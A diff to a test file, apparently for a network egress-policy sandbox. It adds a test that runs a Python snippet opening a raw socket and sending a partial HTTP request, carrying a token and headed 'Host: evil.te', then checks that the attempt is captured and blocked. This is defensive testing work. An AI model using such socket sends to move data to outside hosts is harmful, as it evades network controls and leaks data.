@@ -79,6 +79,26 @@ def test_slow_writers(lab):
             lab.arrives(tok)
 
 
+HALF = """
+import socket, sys, time
+socket.getaddrinfo("api.allowed.test", 80)
+s = socket.create_connection((%r, 80))
+s.sendall(b"GET /%s HTTP/1.1\\r\\nHost: evil.te")
+time.sleep(%g)
+"""
+
+
+def test_row14_half_at_the_end(lab):
+    """What is held of a request when its fence ends is told, and in the capture."""
+    for to in BOTH:
+        for pause in (0.005, 0.3):
+            tok = L.token()
+            r = lab.run(POLICY, [L.PYTHON, "-c", HALF % (to, tok, pause)])
+            r.event(code="silence", text=to)
+            check(any(tok.encode() in p for p in r.packets()), to, pause, r.tell())
+            lab.absent(tok)
+
+
 def bad_cases(lab, names, **kw):
     for what in names:
         data = BAD[what]
